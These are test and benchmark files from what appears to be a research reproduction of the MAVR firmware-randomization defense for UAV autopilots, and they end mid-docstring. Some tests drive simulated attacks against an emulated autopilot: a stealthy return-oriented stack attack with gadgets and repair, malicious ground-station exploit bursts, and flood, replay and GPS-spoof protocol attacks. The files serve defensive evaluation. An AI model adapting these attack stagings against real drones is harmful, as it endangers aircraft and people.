    stk = finder.find_stk_move()
    randomized, _permutation = randomize_image_padded(
        testapp, random.Random(6), flash_size=FLASH_64K
    )
    assert randomized.code[stk.entry : stk.entry + 4] == b"\xff\xff\xff\xff"


def test_padded_attack_replay_fails(testapp):
    randomized, _permutation = randomize_image_padded(
        testapp, random.Random(8), flash_size=FLASH_64K
    )
    attack = StealthyAttack(testapp)  # original-layout exploit
    autopilot = Autopilot(randomized)
    autopilot.debug_symbols = testapp.symbols
    station = MaliciousGroundStation()
    target = variable_address(testapp, "gyro_offset")
    burst = station.exploit_burst(
        PARAM_SET.msg_id, attack.attack_bytes([Write3(target, b"\x40\x00\x00")])
    )
    autopilot.run_ticks(5)
    autopilot.receive_bytes(burst)
    autopilot.run_ticks(40)
    assert autopilot.read_variable("gyro_offset") == 0
    # with 0xFF gaps a wild transfer faults fast: expect a hard crash
    assert autopilot.status is AutopilotStatus.CRASHED


def test_padded_entropy_exceeds_shuffle_only(testapp):
    shuffle_only = layout_entropy_bits(testapp.function_count())
    padded = padded_entropy_bits(testapp, flash_size=FLASH_64K)
    assert padded > shuffle_only * 1.5


def test_padded_needs_free_flash(testapp):
    with pytest.raises(DefenseError):
        generate_padded_permutation(
            testapp, random.Random(0), flash_size=testapp.size + 256
        )


def test_padded_size_cost(testapp):
    """The trade-off that justifies the paper dropping padding: the image
    (and hence Table II transfer time) grows substantially."""
    randomized, _permutation = randomize_image_padded(
        testapp, random.Random(9), flash_size=FLASH_64K
    )
    assert randomized.size > testapp.size * 2
