"""Watchdog timing analysis in isolation."""

from repro.avr import AvrCpu, FeedLine, Instruction, Mnemonic, encode_stream
from repro.core import WatchdogConfig, WatchdogMonitor

I = Instruction
M = Mnemonic


def feeding_cpu(toggles=5):
    """A CPU that toggles the feed line ``toggles`` times, then stops."""
    insns = []
    level = 0
    for _ in range(toggles):
        level ^= 1
        insns.append(I(M.LDI, rd=16, k=level))
        insns.append(I(M.OUT, a=0x05, rr=16))
        insns.extend([I(M.NOP)] * 20)  # spacing between feeds
    insns.append(I(M.BREAK))
    cpu = AvrCpu()
    feed = FeedLine(cpu)
    cpu.load_program(encode_stream(insns))
    cpu.reset()
    cpu.run(10_000)
    return cpu, feed


def test_alive_within_window():
    cpu, feed = feeding_cpu()
    config = WatchdogConfig(expected_period_cycles=100, missed_periods_threshold=4)
    monitor = WatchdogMonitor(feed, config)
    assert monitor.alive(cpu.cycles)


def test_silence_detected():
    cpu, feed = feeding_cpu()
    config = WatchdogConfig(expected_period_cycles=10, missed_periods_threshold=2)
    monitor = WatchdogMonitor(feed, config)
    last = feed.last_feed_cycle
    assert not monitor.alive(last + config.window_cycles + 1)
    assert not monitor.check(last + config.window_cycles + 1)
    assert monitor.alarms == 1


def test_never_fed_grace_window():
    cpu = AvrCpu()
    feed = FeedLine(cpu)
    config = WatchdogConfig(expected_period_cycles=100, missed_periods_threshold=4)
    monitor = WatchdogMonitor(feed, config)
    assert monitor.alive(10)  # inside the startup grace window
    assert not monitor.alive(config.window_cycles + 1)


def test_unexpected_boot_detection():
    cpu = AvrCpu()
    feed = FeedLine(cpu)
    monitor = WatchdogMonitor(feed)
    # one pulse: the legitimate startup announcement
    feed._on_write(0x25, 0b10)
    feed._on_write(0x25, 0b00)
    assert not monitor.unexpected_boot()
    # a second pulse: the application walked through the reset vector
    feed._on_write(0x25, 0b10)
    assert monitor.unexpected_boot()
    assert not monitor.check(0)


def test_observed_period():
    cpu, feed = feeding_cpu(toggles=5)
    monitor = WatchdogMonitor(feed)
    period = monitor.observed_period()
    assert period is not None
    assert period > 0


def test_observed_period_needs_two_events():
    cpu = AvrCpu()
    feed = FeedLine(cpu)
    assert WatchdogMonitor(feed).observed_period() is None
