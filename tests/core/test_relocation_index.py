"""Relocation index: build, serialization, staleness, and the fast path's
byte-for-byte equivalence with the legacy streaming patcher."""

import random

import pytest

from repro.binfmt import FirmwareImage, RelocationIndex, build_relocation_index
from repro.binfmt.relocindex import KIND_CALL, KIND_JMP, KIND_RCALL, KIND_RJMP
from repro.core import preprocess, preprocess_report, randomize_image
from repro.core.patching import patch_image, patch_image_indexed
from repro.core.randomize import generate_permutation
from repro.errors import PatchError


@pytest.fixture(scope="module")
def index(testapp):
    return build_relocation_index(testapp)


def test_index_finds_sites(index, testapp):
    assert index.site_count > 0
    assert index.matches(testapp)
    for site in index.absolute_sites:
        assert site.kind in (KIND_CALL, KIND_JMP)
        # only layout-dependent targets are indexed
        assert testapp.text_start <= site.target < testapp.text_end
    for site in index.relative_sites:
        assert site.kind in (KIND_RCALL, KIND_RJMP)
        # cross-segment by definition
        assert not site.segment_start <= site.target < site.segment_end


def test_indexed_patch_equals_legacy(index, testapp):
    for seed in range(5):
        permutation = generate_permutation(testapp, random.Random(seed))
        assert patch_image_indexed(testapp, permutation, index) == patch_image(
            testapp, permutation
        )


def test_index_serialization_roundtrip(index, testapp):
    blob = index.to_bytes()
    assert len(blob) == index.byte_length()
    restored = RelocationIndex.from_bytes(blob, testapp)
    assert restored == index


def test_index_rides_preprocessed_hex_and_flash_blob(testapp):
    hex_text = preprocess(testapp)
    from_hex = FirmwareImage.from_preprocessed_hex(hex_text)
    assert from_hex.reloc_index is not None
    assert from_hex.reloc_index.matches(from_hex)
    from_blob = FirmwareImage.from_flash_blob(from_hex.to_flash_blob())
    assert from_blob.reloc_index is not None
    assert from_blob.reloc_index.matches(from_blob)
    # the master-side reconstruction patches identically through the index
    permutation = generate_permutation(from_blob, random.Random(3))
    assert patch_image_indexed(from_blob, permutation) == patch_image(
        from_blob, permutation
    )


def test_legacy_containers_without_index_still_parse(testapp):
    hex_text = preprocess(testapp, build_index=False)
    from_hex = FirmwareImage.from_preprocessed_hex(hex_text)
    assert from_hex.reloc_index is None
    blob = from_hex.to_flash_blob(include_index=False)
    assert FirmwareImage.from_flash_blob(blob).reloc_index is None
    # randomize_image falls back to the streaming patcher
    randomized, _ = randomize_image(from_hex, random.Random(9))
    randomized.validate()


def test_stale_index_is_rejected(index, testapp):
    tampered = bytearray(testapp.code)
    tampered[testapp.text_start] ^= 0xFF
    stale = testapp.with_code(bytes(tampered))
    assert not index.matches(stale)
    permutation = generate_permutation(stale, random.Random(0))
    with pytest.raises(PatchError):
        patch_image_indexed(stale, permutation, index)


def test_with_code_drops_index(testapp):
    carrier = testapp.with_code(testapp.code)
    carrier.reloc_index = build_relocation_index(carrier)
    derived = carrier.with_code(bytes(carrier.code))
    assert derived.reloc_index is None


def test_randomized_image_carries_no_index(testapp):
    source = FirmwareImage.from_preprocessed_hex(preprocess(testapp))
    assert source.reloc_index is not None
    randomized, _ = randomize_image(source, random.Random(4))
    # the index described the *original* layout; carrying it over would
    # silently mis-patch a second-generation randomization
    assert randomized.reloc_index is None


def test_preprocess_report_counts_index(testapp):
    report = preprocess_report(testapp)
    assert report.index_sites > 0
    assert report.index_bytes > 0
