"""§V-D / §VII-A1 — brute-force effort.

Paper math: P(j) = 1/N, E[X] = (N+1)/2 against a fixed layout; MAVR's
re-randomization on every failure raises the average to ~n!.  Table I's
function counts make that at least 800! attempts.

The Monte-Carlo harness validates the formulas at tractable N, and the
closed forms are evaluated at the paper's application sizes.
"""

import math
import random

from repro.analysis import (
    estimate_for,
    expected_attempts_fixed_layout,
    format_table,
    simulate_fixed_layout,
    simulate_mavr,
)
from repro.firmware import PAPER_FUNCTION_COUNTS


def test_montecarlo_matches_formulas(benchmark):
    layouts = 24

    def run():
        rng = random.Random(7)
        return (
            simulate_fixed_layout(layouts, trials=2000, rng=rng),
            simulate_mavr(layouts, trials=2000, rng=rng),
        )

    fixed_mean, mavr_mean = benchmark.pedantic(run, rounds=1, iterations=1)
    assert abs(fixed_mean - (layouts + 1) / 2) < 1.0
    assert abs(mavr_mean - layouts) / layouts < 0.15
    print(
        f"\nN={layouts}: fixed-layout mean {fixed_mean:.2f} "
        f"(theory {(layouts + 1) / 2}); MAVR mean {mavr_mean:.2f} (theory {layouts})"
    )


def test_paper_application_effort(benchmark):
    estimates = benchmark(
        lambda: {name: estimate_for(count) for name, count in PAPER_FUNCTION_COUNTS.items()}
    )
    rows = []
    for name, estimate in estimates.items():
        rows.append((
            name,
            estimate.function_count,
            f"10^{estimate.log10_layouts:.0f}",
        ))
        # at least 800! for every application
        assert estimate.layouts >= math.factorial(800)
    print()
    print(format_table(
        ("application", "functions (n)", "expected attempts ~ n!"),
        rows,
        title="brute-force effort at paper scale",
    ))


def test_rerandomization_doubles_effort(benchmark):
    """The MAVR-vs-fixed ratio approaches 2 — the (n!+n!)/2 = n! argument."""
    layouts = 16

    def run():
        rng = random.Random(11)
        fixed = simulate_fixed_layout(layouts, trials=4000, rng=rng)
        rerandomized = simulate_mavr(layouts, trials=4000, rng=rng)
        return rerandomized / fixed

    ratio = benchmark.pedantic(run, rounds=1, iterations=1)
    assert 1.6 < ratio < 2.4
    print(f"\nre-randomization effort ratio: {ratio:.2f}x (theory -> 2x)")
