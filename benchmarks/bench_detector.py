"""GCS anomaly detector scoring + flood throughput floors.

Two measurements:

* **precision/recall matrix** — every protocol-layer attack kind from
  the registry flown against the detector, plus an equal benign batch
  (``repro.analysis.detector_eval``).  Deterministic: simulated clock,
  seeded RNGs, so the emitted ``BENCH_detector.json`` matrix is
  bit-identical across runs and ``tests/docs/test_docs_drift.py`` diffs
  the docs/ATTACKS.md table against it mechanically.
* **flood throughput** — MAVLink frames the detector inspects per wall
  second while a flood session saturates the uplink.  Wall clock, so it
  rides the JSON under a separate key the docs table never reads.

Floors asserted here (the CI contract from the issue):

* flood recall >= 0.9 and every kind's recall >= 0.5,
* replay/spoof distinguished from benign traffic: precision 1.0 against
  a zero-false-alarm benign baseline,
* detector throughput >= 750 frames/s under flood load.

Run:  PYTHONPATH=src python -m pytest benchmarks/bench_detector.py -q -s
Scale the per-kind batch with REPRO_BENCH_DETECTOR_RUNS (default 6).
"""

import json
import os
import time
from pathlib import Path

from repro.analysis.detector_eval import (
    build_detector_matrix,
    format_detector_table,
    matrix_summary_lines,
)
from repro.mavlink.attacks import (
    ProtocolSession,
    make_attacker,
    session_rng,
)
from repro.sim import ScenarioSpec, run_scenario

RESULTS_PATH = Path(__file__).resolve().parent.parent / "BENCH_detector.json"

# measured ~1500 frames/s on the CI container; floor at half that
THROUGHPUT_FLOOR_FRAMES_PER_S = 750.0


def _runs() -> int:
    return int(os.environ.get("REPRO_BENCH_DETECTOR_RUNS", "6"))


def _flood_throughput() -> dict:
    """Frames/s through the detector while a flood saturates the link.

    Runs the session harness directly on one bare board so the wall
    clock covers exactly the engagement (no build/boot in the window).
    """
    from repro.sim.scenario import Board, load_spec_image

    spec = ScenarioSpec(protected=False, attack="flood", attack_seed=1,
                        observe_ticks=200)
    load_spec_image(spec, None)
    board = Board(spec, None)
    board.autopilot.run_ticks(spec.warmup_ticks)
    session = ProtocolSession(
        [board],
        make_attacker("flood", session_rng("flood", spec.attack_seed)),
        watch_every=spec.watch_every,
    )
    started = time.perf_counter()
    session.run(spec.observe_ticks)
    wall_s = time.perf_counter() - started
    frames = session.detector.frames_seen + sum(
        parser.stats.frames_bad_crc
        for parser in session.detector._parsers.values()
    )
    return {
        "frames_inspected": frames,
        "wall_s": round(wall_s, 3),
        "frames_per_s": round(frames / wall_s, 1),
    }


def test_detector_matrix(benchmark):
    matrix = build_detector_matrix(runs_per_kind=_runs())

    # pytest-benchmark row: one full single-kind engagement
    benchmark.pedantic(
        lambda: run_scenario(ScenarioSpec(
            protected=False, attack="flood", attack_seed=1, observe_ticks=60,
        )),
        rounds=3, iterations=1,
    )

    throughput = _flood_throughput()

    # the detector must stay quiet on benign traffic...
    assert matrix["benign"]["false_alarm_runs"] == 0
    kinds = matrix["kinds"]
    # ...and every kind must land its effect and be caught
    for name, m in kinds.items():
        assert m["effect_rate"] >= 0.5, f"{name}: attack rarely lands"
        assert m["recall"] >= 0.5, f"{name}: detector misses too often"
        assert m["precision"] == 1.0, f"{name}: false alarms on benign runs"
    assert kinds["flood"]["recall"] >= 0.9
    assert kinds["replay"]["recall"] >= 0.9
    assert kinds["gps_spoof"]["recall"] >= 0.9
    assert throughput["frames_per_s"] >= THROUGHPUT_FLOOR_FRAMES_PER_S

    results = {"matrix": matrix, "flood_throughput": throughput}
    RESULTS_PATH.write_text(json.dumps(results, indent=2) + "\n")
    print()
    for line in matrix_summary_lines(matrix):
        print(line)
    print(f"flood throughput: {throughput['frames_per_s']:.0f} frames/s "
          f"({throughput['frames_inspected']} frames in "
          f"{throughput['wall_s']:.3f}s)")
    print(format_detector_table(matrix))
    print(f"results written to {RESULTS_PATH}")
