"""Figure 6 — stack progression during the stealthy attack.

Reproduces all seven labelled snapshots: clean stack, dirty stack after
injection, after gadget1 (SP moved into the buffer), after the payload
write, before the repair, after gadget1 again, and the repaired stack —
ending with a verified clean resume.
"""

from repro.attack import derive_runtime_facts, trace_stealthy_attack


def test_fig6_stack_progression(benchmark, testapp):
    trace = benchmark.pedantic(
        trace_stealthy_attack, args=(testapp,), rounds=1, iterations=1
    )
    assert len(trace.snapshots) == 7
    assert trace.resumed_cleanly
    print()
    print(trace.render())


def test_fig6_repair_byte_exact(benchmark, testapp):
    """The repaired return-address bytes equal the statically known ones."""
    from repro.attack import ret_address_bytes

    facts = derive_runtime_facts(testapp)
    trace = benchmark.pedantic(
        trace_stealthy_attack, args=(testapp,), rounds=1, iterations=1
    )
    repaired = trace.snapshots[-1]
    offset = facts.frame_sp + 1 - repaired.base_address
    assert repaired.data[offset : offset + 3] == ret_address_bytes(
        facts.return_address_word
    )
    print(
        f"\nrepaired return address: word 0x{facts.return_address_word:05x} "
        f"at data 0x{facts.frame_sp + 1:04x}..+2 — byte-exact"
    )
