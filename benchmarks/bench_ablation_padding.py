"""Ablation — random inter-function padding (§VIII-B).

The paper considered padding and dropped it: 800 symbols already give
6567 bits.  This bench quantifies both sides of that call on real images:
the entropy gained and the startup-transfer cost paid.
"""

import random

from repro.analysis import format_table
from repro.core import padded_entropy_bits, randomize_image_padded
from repro.core.randomize import layout_entropy_bits
from repro.hw import PROTOTYPE_LINK

FLASH_64K = 64 * 1024


def test_padding_tradeoff(benchmark, testapp):
    def measure():
        randomized, _permutation = randomize_image_padded(
            testapp, random.Random(1), flash_size=FLASH_64K
        )
        return {
            "shuffle_bits": layout_entropy_bits(testapp.function_count()),
            "padded_bits": padded_entropy_bits(testapp, flash_size=FLASH_64K),
            "plain_size": testapp.size,
            "padded_size": randomized.size,
        }

    result = benchmark.pedantic(measure, rounds=1, iterations=1)
    plain_ms = PROTOTYPE_LINK.transfer_ms(result["plain_size"])
    padded_ms = PROTOTYPE_LINK.transfer_ms(result["padded_size"])
    assert result["padded_bits"] > result["shuffle_bits"]
    assert result["padded_size"] > result["plain_size"]
    rows = [
        ("entropy (bits)", f"{result['shuffle_bits']:.0f}", f"{result['padded_bits']:.0f}"),
        ("image size (B)", result["plain_size"], result["padded_size"]),
        ("transfer @115200 (ms)", f"{plain_ms:.0f}", f"{padded_ms:.0f}"),
    ]
    print()
    print(format_table(("metric", "shuffle only", "shuffle + padding"), rows,
                       title="§VIII-B padding trade-off (testapp, 64 KB flash)"))
    print("the paper's call: shuffle-only entropy is already "
          "computationally secure, so the transfer cost is not worth paying")


def test_padding_at_paper_scale(benchmark):
    """At ArduPlane scale (256 KB flash, 221 KB image) there is almost no
    slack to pad into — another reason the idea dies at paper scale."""
    from repro.avr.memory import FLASH_SIZE
    from repro.firmware import ARDUPLANE

    def measure():
        # slack available above the data section of a 221 KB image
        return FLASH_SIZE - ARDUPLANE.stock_code_size

    slack = benchmark(measure)
    assert slack < 41 * 1024  # under 16% of the image
    print(f"\nfree flash above ArduPlane: {slack} bytes "
          f"({slack / FLASH_SIZE:.0%} of the chip) — little room to pad")
