"""Table I — number of functions per application.

Paper rows: ArduPlane 917, ArduCopter 1030, ArduRover 800
(average 915.67, median 917).
"""

import statistics

from repro.analysis import paper_vs_measured
from repro.firmware import PAPER_FUNCTION_COUNTS


def test_table1_function_counts(benchmark, paper_apps_mavr):
    counts = benchmark(
        lambda: {name: image.function_count() for name, image in paper_apps_mavr.items()}
    )
    rows = []
    for name, paper_value in PAPER_FUNCTION_COUNTS.items():
        measured = counts[name]
        rows.append((name, paper_value, measured))
        assert measured == paper_value
    values = list(counts.values())
    assert round(statistics.mean(values)) in (915, 916)
    assert statistics.median(values) == 917
    print()
    print(paper_vs_measured("Table I: number of functions", rows, "functions"))
    print(f"mean={statistics.mean(values):.0f} median={statistics.median(values):.0f} "
          "(paper: mean 915, median 917)")
