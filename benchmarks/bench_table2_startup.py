"""Table II — MAVR startup overhead (randomize + transfer to the app CPU).

Paper rows (ms): ArduPlane 19209, ArduCopter 21206, ArduRover 15412
(average 18609 ms, median 19209 ms).  The prototype is serial-transfer
bound at 115200 baud (11.52 B/ms).
"""

import statistics

from repro.analysis import paper_vs_measured
from repro.core import MavrSystem
from repro.firmware import PAPER_STARTUP_MS


def measure_overheads(apps):
    overheads = {}
    for name, image in apps.items():
        system = MavrSystem(image, seed=1)
        overheads[name] = system.boot()
    return overheads


def test_table2_startup_overhead(benchmark, paper_apps_mavr):
    overheads = benchmark.pedantic(
        measure_overheads, args=(paper_apps_mavr,), rounds=1, iterations=1
    )
    rows = []
    for name, paper_ms in PAPER_STARTUP_MS.items():
        measured = overheads[name]
        rows.append((name, paper_ms, f"{measured:.0f}"))
        # transfer-bound: within 1% of the paper's measurement
        assert abs(measured - paper_ms) / paper_ms < 0.01, (name, measured)
    values = list(overheads.values())
    print()
    print(paper_vs_measured("Table II: MAVR startup overhead (ms)", rows, "ms"))
    print(f"mean={statistics.mean(values):.0f} median={statistics.median(values):.0f} "
          "(paper: mean 18609, median 19209)")


def test_production_pcb_estimate(benchmark, arduplane):
    """Paper §VII-B1: ~4 s once flash writes, not the serial link, bound."""
    from repro.hw import PRODUCTION_LINK

    ms = benchmark(lambda: PRODUCTION_LINK.programming_ms(arduplane.size))
    assert 3000 < ms < 5000
    print(f"\nproduction-PCB startup estimate: {ms:.0f} ms (paper: ~4000 ms)")
