"""Figure 2 — MAVLink packet structure.

6-byte header (magic, length, seq, sender id, component id, message id),
payload up to 255 bytes with a 9-byte minimum, 2-byte checksum — minimum
packet length 17 bytes.
"""

from repro.analysis import format_table
from repro.mavlink import (
    CHECKSUM_LENGTH,
    HEADER_LENGTH,
    HEARTBEAT,
    MAGIC,
    MAX_PAYLOAD,
    MIN_PACKET_LENGTH,
    MIN_PAYLOAD,
    Packet,
    build,
)


def heartbeat():
    return build(
        HEARTBEAT, seq=1, sysid=1, compid=1,
        custom_mode=0, type=1, autopilot=3, base_mode=81,
        system_status=4, mavlink_version=3,
    )


def test_fig2_packet_structure(benchmark):
    frame = benchmark(lambda: heartbeat().to_bytes())
    rows = [
        ("state magic number", 1, f"0x{MAGIC:02X}"),
        ("length", 1, str(frame[1])),
        ("packet sequence #", 1, str(frame[2])),
        ("ID of message sender", 1, str(frame[3])),
        ("ID of sender component", 1, str(frame[4])),
        ("ID of message in payload", 1, str(frame[5])),
        ("message", f"<= {MAX_PAYLOAD}", f"{len(frame) - 8} here"),
        ("checksum", CHECKSUM_LENGTH, frame[-2:].hex()),
    ]
    print()
    print(format_table(("field", "bytes", "value"), rows,
                       title="Fig. 2: MAVLink packet structure"))
    assert frame[0] == MAGIC
    assert HEADER_LENGTH == 6
    assert MIN_PACKET_LENGTH == HEADER_LENGTH + MIN_PAYLOAD + CHECKSUM_LENGTH == 17


def test_frame_encode_decode_throughput(benchmark):
    packet = heartbeat()
    frame = packet.to_bytes()
    decoded = benchmark(lambda: Packet.from_bytes(frame))
    assert decoded == packet
