"""Profiler overhead: the PC profiler must be ~free when not attached.

Four configurations run the same bare-autopilot tick loop on the
``compiled`` engine (the fastest path, and so the most sensitive to any
per-block or per-instruction cost):

* ``baseline`` — no profiler anywhere: the engine's plain fast path,
  which already carries the ``profile_hook is not None`` check this
  benchmark exists to price.
* ``off``      — a profiler object exists but was never attached (what
  every caller gets without opting in).  Must be indistinguishable from
  ``baseline``: the only candidate cost is the same ``is not None``
  check.
* ``block``    — block-entry attribution via ``engine.profile_hook``:
  one dict upsert per retired superblock, the fast path otherwise
  untouched.
* ``exact``    — per-instruction attribution via a trace hook, which
  forces the engine down its per-instruction degrade path.  This is the
  documented cost of exactness — measured and reported, no ceiling
  asserted (it is expected to be several-fold).

Asserted floors:

* ``off``   loses at most 2% throughput against ``baseline``;
* ``block`` loses at most 15%.

Rounds are interleaved across configurations so thermal/scheduler drift
hits all equally; each configuration keeps its best round.

Results land in ``BENCH_profile_overhead.json`` at the repo root.

Run:  PYTHONPATH=src python -m pytest benchmarks/bench_profile_overhead.py -q -s
Scale with REPRO_BENCH_TICKS (default 150) / REPRO_BENCH_ROUNDS (default 3).
"""

import gc
import json
import os
import time
from pathlib import Path

from repro.avr.profile import AvrProfiler
from repro.uav import Autopilot

RESULTS_PATH = Path(__file__).resolve().parent.parent / "BENCH_profile_overhead.json"
OFF_OVERHEAD_MAX_PCT = 2.0
BLOCK_OVERHEAD_MAX_PCT = 15.0
WARMUP_TICKS = 30
ENGINE = "compiled"


def _ticks() -> int:
    return int(os.environ.get("REPRO_BENCH_TICKS", "150"))


def _rounds() -> int:
    # more rounds than the other benches: the off floor compares two
    # identical code paths, so best-of must squeeze scheduler noise well
    # below the 2% ceiling
    return int(os.environ.get("REPRO_BENCH_ROUNDS", "8"))


def _configs(testapp):
    """name -> tick_fn over independent warmed-up autopilots."""
    baseline = Autopilot(testapp, engine=ENGINE)

    unattached = Autopilot(testapp, engine=ENGINE)
    AvrProfiler(mode="block", symbols=testapp.symbols)  # never attached

    blocked = Autopilot(testapp, engine=ENGINE)
    AvrProfiler(mode="block", symbols=testapp.symbols).attach(
        blocked.cpu, blocked.cpu.engine
    )

    exact = Autopilot(testapp, engine=ENGINE)
    AvrProfiler(mode="exact", symbols=testapp.symbols).attach(
        exact.cpu, exact.cpu.engine
    )

    def loop(autopilot):
        def run(n):
            for _ in range(n):
                autopilot.tick()
        return run

    return {
        "baseline": loop(baseline),
        "off": loop(unattached),
        "block": loop(blocked),
        "exact": loop(exact),
    }


CHUNK_TICKS = 10


def _best_ticks_per_second(configs, ticks, rounds):
    """Best-round throughput per config, chunk-interleaved.

    The off floor compares two *identical* code paths, so the noise
    budget is far below the 2% ceiling.  Coarse interleaving (one full
    run per config per round) leaves several percent of systematic bias:
    scheduler drift and GC debt from the slow exact config land on
    whichever config runs next.  Interleaving at ~10-tick chunks inside
    each round makes every config sample the same seconds of machine
    state; rotating the chunk order removes the residual position bias.
    """
    for run in configs.values():
        run(WARMUP_TICKS)  # warm decode caches, superblocks and pyc paths
    best = {name: 0.0 for name in configs}
    names = list(configs)
    chunks = max(ticks // CHUNK_TICKS, 1)
    for round_index in range(rounds):
        gc.collect()
        elapsed = {name: 0.0 for name in configs}
        pivot = round_index % len(names)
        order = names[pivot:] + names[:pivot]
        for _ in range(chunks):
            for name in order:
                start = time.perf_counter()
                configs[name](CHUNK_TICKS)
                elapsed[name] += time.perf_counter() - start
        for name in names:
            best[name] = max(
                best[name], chunks * CHUNK_TICKS / elapsed[name]
            )
    return best


def _overhead_pct(reference: float, measured: float) -> float:
    return round((1.0 - measured / reference) * 100.0, 2)


def test_profile_overhead(benchmark, testapp):
    ticks, rounds = _ticks(), _rounds()
    configs = _configs(testapp)
    rates = _best_ticks_per_second(configs, ticks, rounds)
    overheads = {
        name: _overhead_pct(rates["baseline"], rates[name])
        for name in ("off", "block", "exact")
    }

    results = {
        "engine": ENGINE,
        "ticks_per_round": ticks,
        "rounds": rounds,
        "flight": {
            "ticks_per_second": {k: round(v) for k, v in rates.items()},
            "off_overhead_pct": overheads["off"],
            "block_overhead_pct": overheads["block"],
            # documented, not asserted: exactness costs the fast path
            "exact_overhead_pct": overheads["exact"],
        },
        "floors": {
            "off_max_pct": OFF_OVERHEAD_MAX_PCT,
            "block_max_pct": BLOCK_OVERHEAD_MAX_PCT,
        },
    }

    # pytest-benchmark row: the block-profiled flight loop
    benchmark.pedantic(lambda: configs["block"](ticks), rounds=1, iterations=1)

    RESULTS_PATH.write_text(json.dumps(results, indent=2) + "\n")
    print(f"\n{'config':<10} {'ticks/s':>12} {'overhead':>9}")
    for name in ("baseline", "off", "block", "exact"):
        overhead = 0.0 if name == "baseline" else overheads[name]
        print(f"{name:<10} {rates[name]:>10,.0f}/s {overhead:>8.2f}%")
    print(f"results written to {RESULTS_PATH}")

    assert overheads["off"] <= OFF_OVERHEAD_MAX_PCT, (
        f"an unattached profiler costs {overheads['off']:.2f}% against the "
        f"bare fast path; the ceiling is {OFF_OVERHEAD_MAX_PCT}%"
    )
    assert overheads["block"] <= BLOCK_OVERHEAD_MAX_PCT, (
        f"block-entry attribution costs {overheads['block']:.2f}%; "
        f"the ceiling is {BLOCK_OVERHEAD_MAX_PCT}%"
    )
