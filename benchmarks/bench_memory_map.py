"""Figure 1 — ATmega2560 memory organization.

Three physically separate memories: 256 KB flash (the only executable
space, word-addressed), the linear data space (mapped registers + I/O +
8 KB SRAM; never executable), and EEPROM outside both.
"""

from repro.analysis import format_table
from repro.avr import (
    AvrCpu,
    DATA_SPACE_SIZE,
    EEPROM_SIZE,
    FLASH_SIZE,
    RAMEND,
    SRAM_BASE,
    SRAM_SIZE,
)
from repro.avr.iospace import SPH_DATA, SPL_DATA, SREG_DATA
from repro.errors import IllegalExecutionError


def test_fig1_memory_map(benchmark):
    cpu = benchmark(AvrCpu)
    rows = [
        ("flash (program)", f"{FLASH_SIZE} B", "0x00000-0x3FFFF", "execute only"),
        ("registers r0-r31", "32 B", "0x0000-0x001F", "memory mapped"),
        ("I/O registers", "64 B", "0x0020-0x005F", "incl. SPL/SPH/SREG"),
        ("extended I/O", "416 B", "0x0060-0x01FF", "lds/sts only"),
        ("SRAM", f"{SRAM_SIZE} B", f"0x{SRAM_BASE:04X}-0x{RAMEND:04X}", "stack/globals/heap"),
        ("EEPROM", f"{EEPROM_SIZE} B", "separate space", "config storage"),
    ]
    print()
    print(format_table(("region", "size", "addresses", "notes"), rows,
                       title="Fig. 1: ATmega2560 memory"))
    assert cpu.flash.size == FLASH_SIZE
    assert DATA_SPACE_SIZE == RAMEND + 1
    assert (SPL_DATA, SPH_DATA, SREG_DATA) == (0x5D, 0x5E, 0x5F)


def test_harvard_data_space_not_executable(benchmark):
    """The property defeating classic injection (paper §III): the PC cannot
    point into data memory — our model enforces it by never fetching from
    the data space, and by faulting on fetches outside the image."""
    def attempt():
        cpu = AvrCpu()
        cpu.load_program(b"\x00\x00")
        cpu.reset()
        cpu.data.write_block(SRAM_BASE, b"\x0f\xef")  # ldi r16,0xFF "injected"
        cpu.pc = 0x8000  # far beyond the 1-word image
        try:
            cpu.step()
            return False
        except IllegalExecutionError:
            return True

    assert benchmark(attempt)
