"""Ablations for the design choices DESIGN.md calls out.

1. §V-C — randomization frequency vs flash lifetime: every randomization
   costs one of the application flash's ~10,000 write cycles.
2. §VIII-A — software-only randomization (one fixed permutation for the
   device's lifetime) vs MAVR's hardware-assisted re-randomization:
   against a fixed layout a persistent attacker converges (brute force
   without replacement, E = (N+1)/2, and no in-flight recovery); MAVR
   keeps resetting the game.
"""

import random

from repro.analysis import (
    expected_attempts_fixed_layout,
    format_table,
    simulate_fixed_layout,
    simulate_mavr,
)
from repro.core import RandomizationPolicy
from repro.hw import FLASH_ENDURANCE_CYCLES


def test_frequency_vs_lifetime(benchmark):
    def sweep():
        rows = []
        for every in (1, 2, 5, 10, 50):
            policy = RandomizationPolicy(every)
            boots = policy.flash_lifetime_boots()
            days = policy.flash_lifetime_days(boots_per_day=4)
            rows.append((f"every {every} boot(s)", boots, f"{days:.0f}"))
        return rows

    rows = benchmark(sweep)
    # lifetime scales linearly with the randomization interval
    assert rows[0][1] == FLASH_ENDURANCE_CYCLES
    assert rows[-1][1] == FLASH_ENDURANCE_CYCLES * 50
    print()
    print(format_table(
        ("policy", "boots until wear-out", "days @ 4 boots/day"),
        rows,
        title="§V-C randomization frequency vs flash lifetime",
    ))


def test_software_only_vs_mavr(benchmark):
    """The §VIII-A argument for adding hardware, quantified."""
    layouts = 18

    def run():
        rng = random.Random(5)
        fixed = simulate_fixed_layout(layouts, trials=3000, rng=rng)
        rerandomized = simulate_mavr(layouts, trials=3000, rng=rng)
        return fixed, rerandomized

    fixed, rerandomized = benchmark.pedantic(run, rounds=1, iterations=1)
    assert fixed < expected_attempts_fixed_layout(layouts) * 1.2
    assert rerandomized > fixed
    print()
    print(format_table(
        ("defense", "mean attempts to break (N=18)"),
        [
            ("software-only (fixed permutation)", f"{fixed:.1f}"),
            ("MAVR (re-randomize per failure)", f"{rerandomized:.1f}"),
        ],
        title="§VIII-A software-only vs hardware-assisted",
    ))
    print("software-only also cannot recover in flight: a failed attempt "
          "leaves the processor executing garbage until a power cycle")


def test_detection_recovery_loop(benchmark, testapp):
    """Repeated failed attacks: every one is absorbed by a re-randomize,
    consuming exactly one flash cycle each (the wear the policy budgets)."""
    from repro.core import MavrSystem

    def run():
        system = MavrSystem(testapp, seed=77)
        system.boot()
        for _ in range(3):
            system.master.boot(attack_detected=True)
        return system.report()

    report = benchmark.pedantic(run, rounds=1, iterations=1)
    assert report.randomizations == 4
    assert report.flash_cycles_used == 4
    assert report.flash_cycles_remaining == FLASH_ENDURANCE_CYCLES - 4
    print(
        f"\n3 failed attacks absorbed; flash cycles used: "
        f"{report.flash_cycles_used} / {FLASH_ENDURANCE_CYCLES}"
    )
