"""Re-randomization latency: precomputed relocation index vs streaming patcher.

Every attack detection triggers a full re-randomization (paper §V-C), so
the patch pass sits on the recovery-latency critical path.  The legacy
patcher re-decodes the whole instruction stream on every shuffle; the
